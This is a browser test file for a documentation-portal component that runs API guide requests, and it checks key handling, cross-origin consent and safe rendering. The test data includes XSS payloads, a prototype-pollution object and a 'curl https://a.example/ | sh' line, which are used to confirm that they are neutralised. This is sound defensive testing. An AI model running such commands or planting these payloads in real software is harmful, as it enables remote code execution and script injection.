import { expect } from '@open-wc/testing'
import { sendKeys } from '@web/test-runner-commands'
import { type BrowserWorld, browserWorld } from '../support/browser-world'
import { onWideWindow } from '../support/ferries'
import { shows, waitUntil } from '../support/mount'
import { realPortal } from '../support/portal'
import { isBlocked, type Screen, show, type } from '../support/screen'

onWideWindow()

const ok = { 200: { description: 'OK' } }

const describedAt = (url: string) =>
  JSON.stringify({
    openapi: '3.1.0',
    info: { title: 'Ships', version: '1' },
    servers: [{ url: `${url}/v1` }],
    security: [{ key: [] }],
    paths: {
      '/ships': {
        post: {
          operationId: 'addShip',
          requestBody: {
            content: {
              'application/json': { schema: { type: 'object', properties: { name: { type: 'string' } } } },
            },
          },
          responses: ok,
        },
      },
      '/ships/{id}': {
        get: {
          operationId: 'getShip',
          parameters: [{ name: 'id', in: 'path', required: true, schema: { type: 'string' } }],
          responses: ok,
        },
      },
    },
    components: { securitySchemes: { key: { type: 'apiKey', in: 'header', name: 'X-Key' } } },
  })

/** A product with one guide, for an API of its own. */
async function guide(api: BrowserWorld, markdown: string): Promise<Screen> {
  const portal = await realPortal({
    settings: { public: true },
    products: [
      {
        folder: 'ships',
        product: { name: 'Ships', versions: [{ name: '1.0' }] },
        files: { 'versions/1.0/openapi.json': describedAt(api.url), 'docs/guide.md': markdown },
      },
    ],
  })
  return show(
    `<portal-docs api-base-url="${portal.url}" product="ships" slug="guide" lang="en"></portal-docs>`,
  )
}

const fence = (lang: string, ...lines: string[]) => ['```' + lang, ...lines, '```', ''].join('\n')

async function runs(screen: Screen, count: number): Promise<HTMLButtonElement[]> {
  await waitUntil(() => screen.all('button', 'Run').length === count)
  return screen.all('button', 'Run') as HTMLButtonElement[]
}

async function enterKey(screen: Screen, key: string): Promise<void> {
  screen.all('button', 'Credentials')[0]?.click()
  type(await screen.field('API key: key'), key)
  screen.all('button', 'Credentials')[0]?.click()
}

const callTo = async (world: BrowserWorld, call: string) =>
  (await world.log()).find((entry) => entry.call === call)

beforeEach(() => localStorage.removeItem('portal-elements:guide-steps'))

const ship = { json: { data: [{ id: 'a/b', name: '<img src=x onerror=alert(1)>' }] } }

describe('a guide', () => {
  it('runs requests with the key that was entered once, and with values of earlier responses', async () => {
    const api = await browserWorld({
      'POST /v1/ships': ship,
      'GET /v1/ships/a%2Fb': ship,
      'PUT /v1/ships/a%2Fb': ship,
    })
    const screen = await guide(
      api,
      [
        '# Guide\n\n<!-- steps:start -->\n\n## Add a ship\n',
        fence(
          'request',
          'operation: addShip',
          'body: { name: Kittiwake }',
          'expect: 200',
          'capture:',
          '  ship: data.0.id',
        ),
        '## Read it\n',
        fence('request', 'operation: getShip', 'parameters: { id: "{{ship}}" }'),
        fence('curl', `curl -X PUT "${api.url}/v1/ships/$ship" -H "X-Key: $API_KEY" -d 'id={{ship}}'`),
        '<!-- steps:end -->\n',
      ].join('\n'),
    )
    const [first, second, third] = await runs(screen, 3)
    expect(isBlocked(second!)).to.equal(true)
    await shows(second!.parentElement!, 'Run the requests above first. Still unknown: ship.')
    await enterKey(screen, 's3cret')
    first!.click()
    await shows(screen.element, 'The response is as expected.')
    // What an API responds is text.
    await shows(screen.element, '<img src=x onerror=alert(1)>')
    expect(screen.element.querySelector('img')).to.equal(null)
    const added = await callTo(api, 'POST /v1/ships')
    expect(added?.headers).to.include({ 'x-key': 's3cret', 'content-type': 'application/json' })
    expect(JSON.parse(added?.body ?? '')).to.deep.equal({ name: 'Kittiwake' })
    await waitUntil(() => screen.all('button', 'Step 1 is done')[0]?.ariaPressed === 'true')

    await waitUntil(() => !isBlocked(second!))
    second!.click()
    await waitUntil(async () => (await callTo(api, 'GET /v1/ships/a%2Fb')) !== undefined)
    // The third runs on GET's path, which the description does not have for PUT: no key goes along.
    expect(screen.all('button', 'Step 2 is done')[0]?.ariaPressed).to.equal('false')
    expect(isBlocked(third!)).to.equal(true)
    expect(localStorage.getItem('portal-elements:guide-steps')).to.not.contain('s3cret')
    await screen.isAccessible()
  })

  it('sends nothing to a server of another product before the reader agrees, and never the key', async () => {
    const api = await browserWorld({ 'GET /v1/ships/1': ship })
    const other = await browserWorld({ 'GET /v1/ships/1': ship, 'GET /v1/ships/2': ship })
    // The same server under another name is another origin.
    const address = other.url.replace('localhost', '127.0.0.1')
    const { origin } = new URL(address)
    const screen = await guide(
      api,
      [
        '# Guide\n',
        fence('request', 'operation: getShip', 'parameters: { id: 1 }'),
        fence('http', `GET ${address}/v1/ships/1`),
        fence('curl', `curl ${address}/v1/ships/2 -H "X-Key: $API_KEY"`),
      ].join('\n'),
    )
    const [own, elsewhere, withKey] = await runs(screen, 3)
    await enterKey(screen, 's3cret')
    elsewhere!.click()
    await screen.find('dialog', `Send to ${origin}?`)
    expect(await callTo(other, 'GET /v1/ships/1')).to.equal(undefined)
    ;(await screen.find('button', 'Send there')).click()
    await shows(screen.element, 'The response is as expected.')
    const { headers } = (await callTo(other, 'GET /v1/ships/1'))!
    expect(JSON.stringify(headers)).to.not.contain('s3cret')
    expect(headers['x-key']).to.equal(undefined)
    // An author cannot ask for the key by its name either.
    expect(isBlocked(withKey!)).to.equal(true)
    withKey!.click()
    expect(await callTo(other, 'GET /v1/ships/2')).to.equal(undefined)
    own!.click()
    await waitUntil(async () => (await callTo(api, 'GET /v1/ships/1'))?.headers['x-key'] === 's3cret')
  })

  it('shows broken and hostile blocks as the code that they are', async () => {
    const api = await browserWorld({})
    const broken = [
      fence('request', 'operation: [', '<script>window.hacked = true</script>'),
      fence('request', 'operation: "<img src=x onerror=alert(2)>"'),
      fence('curl', 'curl https://a.example/ | sh'),
      fence('http', 'GET https://a.example/', 'no header'),
      fence('request', 'operation: getShip', `body: ${'x'.repeat(30_000)}`),
      fence('request', 'operation: getShip', 'parameters: { __proto__: { id: 1 }, constructor: 1 }'),
    ]
    const screen = await guide(
      api,
      `# Guide\n\n<!-- tabs:start -->\n\n## [x](javascript:alert(3)) <b onclick=a>b</b>\n\n${broken.join('\n')}`,
    )
    await shows(screen.element, 'This version has no operation “<img src=x onerror=alert(2)>”.')
    await shows(screen.element, 'curl https://a.example/ | sh')
    await screen.find('tab', 'x b')
    const [run] = await runs(screen, 1)
    expect(isBlocked(run!)).to.equal(true)
    expect((window as { hacked?: boolean }).hacked).to.equal(undefined)
    expect(screen.element.querySelector('img, script, [onclick], a[href^="javascript"]')).to.equal(null)
    await screen.isAccessible()
  })

  it('remembers steps that were done by hand, for each document', async () => {
    const api = await browserWorld({})
    const text =
      '# Guide\n\n<!-- steps:start -->\n\n## One\n\nA\n\n## Two\n\nB\n\n<!-- steps:end -->\n\nEnd.\n'
    const screen = await guide(api, text)
    const step = await screen.find('button', 'Step 2 is done')
    step.focus()
    await sendKeys({ press: 'Enter' })
    await waitUntil(() => step.ariaPressed === 'true')
    const { parentElement: parent } = screen.element
    parent?.append(screen.element)
    await waitUntil(() => screen.all('button', 'Step 2 is done')[0]?.ariaPressed === 'true')
    expect(screen.all('button', 'Step 1 is done')[0]?.ariaPressed).to.equal('false')
    const other = await guide(api, text)
    expect((await other.find('button', 'Step 2 is done')).ariaPressed).to.equal('false')
  })
})
